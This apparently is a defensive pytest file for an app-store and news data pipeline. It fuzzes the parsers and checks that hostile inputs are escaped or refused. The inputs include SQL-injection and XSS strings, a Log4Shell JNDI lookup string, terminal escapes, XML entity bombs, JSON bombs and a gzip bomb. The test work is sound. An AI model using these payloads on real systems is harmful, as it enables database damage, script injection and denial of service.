@@ -1,0 +1,459 @@
+"""Hostile input: fuzzing every parser, injection strings end to end, bombs and oversized bodies.
+
+* ``fuzz`` (marker): every parser gets ≥ 2000 Hypothesis examples — random bytes and mutations of real
+  payloads — and only ``transforms.errors.ParseError`` may escape; what it returns must be serialisable.
+* Names carrying SQL, HTML/JS, control characters and right-to-left marks go through the whole pipeline
+  (fault server → WARC → stage → GX → DuckDB): stored verbatim, nothing executed, and escaped wherever
+  they are shown (alert text/HTML/Slack, the CLI tables, Data Docs).
+* XML entity bombs, JSON nesting/number bombs, gzip bombs and oversized bodies are refused within bounded
+  memory (tracemalloc peak) and time.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+import tracemalloc
+import zlib
+from dataclasses import asdict, is_dataclass
+from datetime import date
+from pathlib import Path
+
+import duckdb
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from transforms.errors import ParseError
+
+FIXTURES = Path(__file__).resolve().parent / "fixtures"
+FUZZ_EXAMPLES = 2000
+FUZZ = settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None, derandomize=True,
+                suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much,
+                                       HealthCheck.data_too_large])
+
+# -------------------------------------------------------------------------------------------------- fuzz
+
+_TOKENS = [b'"', b"{", b"}", b"[", b"]", b",", b":", b"null", b"true", b"-1", b"1e999", b"9" * 30, b"\\u0000",
+           b"\\ud800", b"<", b">", b"&", b"&amp;", b"<!DOCTYPE x [<!ENTITY a 'b'>]>", b"]]>", b"\xff\xfe",
+           b"\xc3", b"\x00", b"\n", b")]}'", b"AF_initDataCallback({", b"wrb.fr", b"data:", b"<item>", b"</rss>"]
+
+
+@st.composite
+def mutated(draw, seeds: tuple[bytes, ...]) -> bytes:
+    """A real payload with 1-4 byte-level edits: cut, delete, insert (random or structural), repeat, flip."""
+    body = bytearray(draw(st.sampled_from(seeds)))
+    for _ in range(draw(st.integers(1, 4))):
+        n = len(body)
+        at = draw(st.integers(0, n))
+        op = draw(st.sampled_from(["cut", "delete", "insert", "token", "repeat", "flip"]))
+        if op == "cut":
+            del body[at:]
+        elif op == "delete":
+            del body[at:at + draw(st.integers(1, 64))]
+        elif op == "insert":
+            body[at:at] = draw(st.binary(min_size=1, max_size=16))
+        elif op == "token":
+            body[at:at] = draw(st.sampled_from(_TOKENS))
+        elif op == "repeat" and n:
+            end = min(n, at + draw(st.integers(1, 200)))
+            body[at:at] = body[at:end] * draw(st.integers(1, 3))
+        elif op == "flip" and at < n:
+            body[at] = draw(st.integers(0, 255))
+    return bytes(body)
+
+
+def _fixtures(*names: str) -> tuple[bytes, ...]:
+    return tuple((FIXTURES / n).read_bytes() for n in names)
+
+
+def _inputs(*seeds: str):
+    return st.binary(max_size=600) | mutated(_fixtures(*seeds))
+
+
+def _only_parse_error(parse, body) -> None:
+    try:
+        out = parse(body)
+    except ParseError as err:
+        assert err.reason and "\n" not in str(err)
+        return
+    for record in out if isinstance(out, list) else [out]:
+        assert is_dataclass(record)
+        json.dumps(asdict(record), ensure_ascii=False, default=str).encode("utf-8")
+
+
+def _rss(body):
+    from transforms.appstore_rss import parse_appstore_rss
+
+    return parse_appstore_rss(body, country="us", chart="top-free")
+
+
+def _rss_v2(body):
+    from transforms.appstore_rss import parse_rss_v2
+
+    return parse_rss_v2(body, country="us", chart="top-free")
+
+
+def _legacy(body):
+    from transforms.appstore_rss import parse_legacy_rss
+
+    return parse_legacy_rss(body, country="us", chart="top-grossing", genre="6016")
+
+
+def _lookup(body):
+    from transforms.itunes_lookup import parse_itunes_lookup
+
+    return parse_itunes_lookup(body, country="us")
+
+
+def _chart(body):
+    from transforms.google_play_chart import parse_play_chart
+
+    return parse_play_chart(body, country="us", chart="top-free", genre="ENTERTAINMENT")
+
+
+def _details(body):
+    from transforms.google_play_details import parse_play_details
+
+    return parse_play_details(body, app_id="com.newleaf.app.android.victor", country="us")
+
+
+def _details_any(body):
+    from transforms.google_play_details import parse_play_details
+
+    return parse_play_details(body)
+
+
+def _news(body):
+    from transforms.news_feed import parse_news_feed
+
+    return parse_news_feed(body, source_feed="https://news.example/rss")
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("appstore/rss_v2_top_free_us.json", "appstore/rss_v2_missing_id.json",
+               "appstore/legacy_topgrossing_6016_us.json", "appstore/legacy_single_entry.json"))
+def test_fuzz_parse_appstore_rss(body):
+    _only_parse_error(_rss, body)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("appstore/rss_v2_top_free_us.json", "appstore/rss_v2_missing_id.json"))
+def test_fuzz_parse_rss_v2(body):
+    _only_parse_error(_rss_v2, body)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("appstore/legacy_topgrossing_6016_us.json", "appstore/legacy_single_entry.json",
+               "appstore/legacy_empty.json"))
+def test_fuzz_parse_legacy_rss(body):
+    _only_parse_error(_legacy, body)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("appstore/lookup_dramas_us.json", "appstore/lookup_empty.json"))
+def test_fuzz_parse_itunes_lookup(body):
+    _only_parse_error(_lookup, body)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("google_play/chart_entertainment_us.txt", "google_play/chart_empty.txt"))
+def test_fuzz_parse_play_chart(body):
+    _only_parse_error(_chart, body)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("google_play/details_reelshort.html", "google_play/details_missing_developer.html",
+               "google_play/details_no_data_block.html"), st.booleans())
+def test_fuzz_parse_play_details(body, with_app_id):
+    _only_parse_error(_details if with_app_id else _details_any, body)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_inputs("news/google_news_en_reelshort.xml", "news/industry_atom.xml", "news/industry_rss.xml",
+               "news/google_news_zh_duanju_chuhai.xml", "news/billion_laughs.xml", "news/external_entity.xml"))
+def test_fuzz_parse_news_feed(body):
+    _only_parse_error(_news, body)
+
+
+_TEXT = st.text(max_size=400) | st.text(alphabet=st.sampled_from(list("0123456789.,%$¥亿万 MBmbillionk-–\n"
+                                                                     "ReelShort downloads revenue 收入 下载")),
+                                        max_size=200)
+
+
+@pytest.mark.fuzz
+@FUZZ
+@given(_TEXT, st.sampled_from([None, "2025-09-01T00:00:00Z", "garbage"]))
+def test_fuzz_news_text_helpers(text, published_at):
+    """The text-level news transforms never raise on any text."""
+    from transforms.news_feed import html_to_text, parse_feed_date, target_url
+    from transforms.news_mentions import build_matcher, find_mentions  # noqa: F401 - imported: must not fail
+    from transforms.news_metrics import extract_metrics
+    from transforms.urls import canonical_url
+
+    html_to_text(text)
+    assert parse_feed_date(text) is None or isinstance(parse_feed_date(text), str)
+    for fn in (target_url, canonical_url):
+        try:
+            assert isinstance(fn(text), str)
+        except ParseError:
+            pass
+    for metric in extract_metrics(text, apps=[("reelshort", ["ReelShort"])], published_at=published_at):
+        json.dumps(asdict(metric), ensure_ascii=False, default=str)
+
+
+# ------------------------------------------------------------------------------------- injection strings
+
+HOSTILE_NAMES = [
+    "'); DROP TABLE core.apps;--",
+    "<script>alert('x')</script>",
+    "Robert\"); DELETE FROM ops.quarantine; --",
+    "Bell\x07 Esc\x1b[31mred\x1b[0m Tab\tNul-free",
+    "\u202eevil.exe\u202c RTL \u200f\u200e mark",
+    "[bold red]rich[/] {{7*7}} ${jndi:ldap://x/a} %s%n",
+]
+D1 = date(2026, 11, 1)
+
+
+@pytest.fixture(scope="module")
+def hostile_day(tmp_path_factory):
+    """One day where six top apps carry hostile names (both stores) and one batch carries a hostile id."""
+    from sample_data.market import build_market, ranked
+    from tests.fault_server import FaultServer, run_day
+
+    top = ranked(build_market(), "free", "us", 0, 15)
+    with FaultServer(start=D1) as server:
+        server.hostile_names = {m.app.track_id: name for m, name in zip(top, HOSTILE_NAMES, strict=False)}
+        server.inject("app_store", "gb", "hostile_id")
+        settings = server.settings(tmp_path_factory.mktemp("hostile"), ["us", "gb"])
+        result = run_day(settings, D1, ["us", "gb"], run_id="hostile")
+    return settings, result
+
+
+def test_hostile_names_are_stored_verbatim_and_nothing_is_executed(hostile_day):
+    settings, result = hostile_day
+    assert f"app_store:{D1}:us" in result["summary"]["loaded_batches"]
+    assert f"google_play:{D1}:us" in result["summary"]["loaded_batches"]
+    with duckdb.connect(str(settings.warehouse_path), read_only=True) as conn:
+        for store in ("app_store", "google_play"):
+            names = {r[0] for r in conn.execute(
+                "SELECT name FROM core.chart_entries WHERE store = ? AND country = 'us'", [store]).fetchall()}
+            assert set(HOSTILE_NAMES) <= names, f"{store}: {set(HOSTILE_NAMES) - names}"
+        lookups = {r[0] for r in conn.execute(
+            "SELECT name FROM core.app_metrics WHERE store = 'app_store' AND country = 'us'").fetchall()}
+        assert set(HOSTILE_NAMES) <= lookups
+        assert conn.execute("SELECT count(*) FROM core.apps").fetchone()[0] > 0
+        assert conn.execute("SELECT count(*) FROM ops.quarantine").fetchone()[0] == 1  # the hostile id only
+
+
+def test_a_hostile_id_is_quarantined_and_escaped_in_every_alert_rendering(hostile_day):
+    from dramatrack.alerts.message import alert_from_report, render_html, render_slack, render_text
+    from tests.fault_server import HOSTILE_ID
+
+    settings, result = hostile_day
+    assert result["summary"]["quarantined_batches"] == [f"app_store:{D1}:gb"]
+    alert = alert_from_report(result["report"])
+    assert alert is not None
+    examples = " ".join(e for f in alert.failures for e in f["examples"])
+    assert "script" in examples and "DROP TABLE" in examples  # the reason names the hostile value
+    html_body = render_html(alert)
+    assert "<script>" not in html_body and "&lt;script&gt;" in html_body
+    slack = json.dumps(render_slack(alert))
+    assert "<script>" not in slack and "&lt;script&gt;" in slack
+    assert "DROP TABLE" in render_text(alert)  # plain text shows it as text
+    with duckdb.connect(str(settings.warehouse_path), read_only=True) as conn:
+        reasons = conn.execute("SELECT failed_expectations FROM ops.quarantine").fetchone()[0]
+        assert "DROP TABLE" in reasons  # stored as data, verbatim in the JSON reasons
+        for table in ("core.apps", "core.chart_entries", "ops.quarantine"):
+            conn.execute(f"SELECT count(*) FROM {table}").fetchone()
+        assert conn.execute("SELECT count(*) FROM core.chart_entries WHERE store_app_id = ?",
+                            [HOSTILE_ID]).fetchone()[0] == 0
+
+
+def test_control_and_bidi_characters_are_made_visible_in_alerts():
+    from dramatrack.alerts.message import alert_from_report, render_html, render_slack, render_text
+
+    report = {"batches": [{"batch_id": "app_store:2026-11-01:us", "source": "app_store", "country": "us",
+                           "snapshot_date": "2026-11-01", "status": "failed",
+                           "failures": [{"expectation": "expect_x", "unexpected_count": 3,
+                                         "examples": [HOSTILE_NAMES[3], HOSTILE_NAMES[4], HOSTILE_NAMES[1]]}]}]}
+    alert = alert_from_report(report)
+    for rendered in (render_text(alert), render_html(alert), json.dumps(render_slack(alert), ensure_ascii=False)):
+        for raw in ("\x07", "\x1b", "\u202e", "\u200f"):
+            assert raw not in rendered
+    for markup in (render_html(alert), json.dumps(render_slack(alert))):  # text is plain: "<" is harmless
+        assert "<script>" not in markup and "&lt;script&gt;" in markup
+    assert "\\u202e" in render_text(alert) and "\\x1b" in render_text(alert)
+
+
+def test_hostile_names_render_literally_in_the_cli_tables(hostile_day):
+    from rich.console import Console
+
+    from dramatrack_cli.show import table_of
+
+    settings, _ = hostile_day
+    with duckdb.connect(str(settings.warehouse_path), read_only=True) as conn:
+        rows = conn.execute("SELECT rank, name FROM core.chart_entries WHERE store = 'app_store' AND country = 'us' "
+                            "AND chart = 'top-free' ORDER BY rank").fetchall()
+    console = Console(record=True, width=200, color_system=None)
+    console.print(table_of("top", ["rank", "name"], rows))  # Rich markup in a name must not be interpreted
+    text = console.export_text()
+    assert "[bold red]rich[/]" in text and "'); DROP TABLE core.apps;--" in text
+
+
+@pytest.mark.xfail(strict=True, reason="GX Data Docs render unexpected values unescaped (stored XSS): "
+                   "fix in expectations/runner.py, see docs/reliability.md")
+def test_data_docs_escape_hostile_values(tmp_path, monkeypatch):
+    """GX must render unexpected values into the Data Docs HTML escaped (a probe suite flags every hostile name).
+
+    It does not (GX 1.x puts them raw into the page), so this documents the gap until the runner escapes
+    string values before validation or sanitises the built pages.
+    """
+    import pandas as pd
+
+    from dramatrack.settings import Settings
+    from expectations import derived, runner, suites
+
+    def probe_suite(settings, *, batch_column="batch_id"):
+        import great_expectations as gx
+
+        return gx.ExpectationSuite(name="hostile_probe", expectations=[
+            gx.expectations.ExpectColumnValuesToMatchRegex(column="name", regex=r"^[A-Za-z0-9 ]+$")])
+
+    monkeypatch.setitem(suites.SUITES, "hostile_probe", probe_suite)
+    monkeypatch.setitem(runner.SUITES, "hostile_probe", probe_suite)
+    monkeypatch.setitem(derived.DERIVERS, "hostile_probe", lambda df, batch_column="batch_id": df.copy())
+    settings = Settings(data_dir=tmp_path, countries=["us"])
+    frame = pd.DataFrame({"batch_id": ["probe:2026-11-01:us"] * len(HOSTILE_NAMES), "name": HOSTILE_NAMES})
+    outcome = runner.validate_frame("hostile_probe", frame, settings=settings, build_docs=True, run_name="hostile")
+    assert outcome.failed_batches
+    pages = [p for p in settings.gx_dir.rglob("*.html") if "validations" in p.parts]
+    assert pages, "Data Docs were built"
+    html_text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in pages)
+    assert "DROP TABLE core.apps" in html_text  # the values are on the page ...
+    assert "<script>alert('x')</script>" not in html_text  # ... but must not be live markup
+
+
+def test_hostile_names_in_the_html_report_are_escaped():
+    """``dramatrack report`` (dramatrack/report): names go into the HTML through ``html.escape`` and into the
+    chart specs through ``json_for_script``; ``tests/test_report.py`` builds a whole report with hostile names."""
+    if not (Path(__file__).resolve().parents[1] / "dramatrack_cli" / "report_cmd.py").exists():
+        pytest.skip("dramatrack_cli/report_cmd.py does not exist yet")
+    import json as json_module
+
+    from dramatrack.report.html import _e, json_for_script
+
+    for name in HOSTILE_NAMES + ["</script><script>alert(1)</script>", "a\u2028b\u2029c"]:
+        in_script = json_for_script({"name": name})
+        assert "<" not in in_script and ">" not in in_script and "&" not in in_script
+        assert "\u2028" not in in_script and "\u2029" not in in_script
+        assert json_module.loads(in_script)["name"] == name  # escaped, not altered
+        assert "<" not in _e(name) and ">" not in _e(name)
+
+
+def test_hostile_article_titles_parse_verbatim():
+    from tests.fault_server import default_news_items, render_news_rss
+    from transforms.news_feed import parse_news_feed
+
+    names = [n for n in HOSTILE_NAMES if not any(ord(c) < 0x20 for c in n)]  # XML 1.0 cannot carry C0 controls
+    base = default_news_items(D1)[0]
+    items = [dict(base, title=name, link=f"{base['link']}-{i}") for i, name in enumerate(names)]
+    titles = [a.title for a in parse_news_feed(render_news_rss(items))]
+    assert titles == names
+    with pytest.raises(ParseError):  # a C0 control character makes the XML malformed: refused, typed
+        parse_news_feed(render_news_rss([dict(base, title="Bell\x07")]))
+
+
+# ------------------------------------------------------------------------------------------------ bombs
+
+
+def _peak(fn) -> tuple[int, float, object]:
+    """(tracemalloc peak bytes, seconds, result or exception) of ``fn()``."""
+    tracemalloc.start()
+    started = time.monotonic()
+    try:
+        result = fn()
+    except Exception as exc:  # noqa: BLE001 - returned for the caller to check its type
+        result = exc
+    elapsed = time.monotonic() - started
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    return peak, elapsed, result
+
+
+QUADRATIC_BLOWUP = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"x" * 50_000 + b'">]><rss><channel>'
+                    + b"<item><title>" + b"&a;" * 20_000 + b"</title><link>http://x</link></item></channel></rss>")
+XML_BOMBS = {
+    "billion_laughs": (FIXTURES / "news" / "billion_laughs.xml").read_bytes(),
+    "external_entity": (FIXTURES / "news" / "external_entity.xml").read_bytes(),
+    "quadratic_blowup": QUADRATIC_BLOWUP,  # 1 GB if expanded
+    "parameter_entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x">%p;]><rss/>',
+}
+
+
+@pytest.mark.parametrize("name", sorted(XML_BOMBS))
+def test_xml_bombs_are_refused_in_bounded_memory(name):
+    body = XML_BOMBS[name]
+    peak, elapsed, result = _peak(lambda: _news(body))
+    assert isinstance(result, ParseError), result
+    assert peak < 8 * 1024 * 1024 + 4 * len(body), f"{peak / 1e6:.1f} MB"
+    assert elapsed < 2.0
+
+
+JSON_BOMBS = {
+    "deep_nesting": b"[" * 200_000 + b"]" * 200_000,
+    "deep_objects": b'{"feed":' * 50_000 + b"{}" + b"}" * 50_000,
+    "huge_number": b'{"feed": {"results": [{"id": ' + b"9" * 1_000_000 + b"}]}}",
+    "huge_string": b'{"resultCount": 1, "results": [{"trackId": "' + b"1" * 4_000_000 + b'"}]}',
+}
+JSON_PARSERS = {"appstore_rss": _rss, "legacy_rss": _legacy, "itunes_lookup": _lookup, "play_chart": _chart,
+                "play_details": _details}
+
+
+@pytest.mark.parametrize("parser", sorted(JSON_PARSERS))
+@pytest.mark.parametrize("bomb", sorted(JSON_BOMBS))
+def test_json_bombs_are_refused_in_bounded_memory(parser, bomb):
+    body = JSON_BOMBS[bomb]
+    if parser == "play_chart":
+        body = b")]}'\n\n" + str(len(body)).encode() + b"\n" + body
+    if parser == "play_details":
+        body = b"<html><script>AF_initDataCallback({key: 'ds:5', hash: '1', data:" + body + b", sideChannel: {}});"
+    peak, elapsed, result = _peak(lambda: JSON_PARSERS[parser](body))
+    assert isinstance(result, ParseError | list), result  # refused, or (huge string) an id that is no app
+    assert peak < 64 * 1024 * 1024 + 30 * len(body), f"{peak / 1e6:.1f} MB for a {len(body) / 1e6:.1f} MB body"
+    assert elapsed < 10.0
+
+
+def _gzip_bomb(decompressed: int) -> bytes:
+    co = zlib.compressobj(9, zlib.DEFLATED, 31)
+    chunk = b"\0" * (1024 * 1024)
+    parts = [co.compress(chunk) for _ in range(decompressed // len(chunk))]
+    return b"".join(parts) + co.flush()
+
+
+@pytest.mark.parametrize("kind", ["streamed", "declared", "gzip_bomb"])
+def test_oversized_bodies_are_refused_in_bounded_memory(tmp_path, kind):
+    from extractors.http_client import FetchError, PoliteClient
+    from tests.loopback_server import LoopbackServer, Reply, make_settings
+
+    cap = 1024 * 1024
+    replies = {
+        "streamed": Reply(200, body_size=64 * 1024 * 1024, content_length=False),
+        "declared": Reply(200, body_size=64 * 1024 * 1024),
+        "gzip_bomb": Reply(200, _gzip_bomb(256 * 1024 * 1024), headers={"Content-Encoding": "gzip"}),
+    }
+    with LoopbackServer() as server:
+        server.script("/big", replies[kind])
+        settings = make_settings(tmp_path, max_response_bytes=cap, max_retries=0, read_timeout=5.0)
+        with PoliteClient(settings) as client:
+            peak, elapsed, result = _peak(lambda: client.fetch(server.url("/big")))
+    assert isinstance(result, FetchError) and f"exceeds {cap} bytes" in str(result)
+    assert peak < 4 * cap, f"{peak / 1e6:.1f} MB traced for a {cap / 1e6:.0f} MB cap"
+    assert elapsed < 10.0
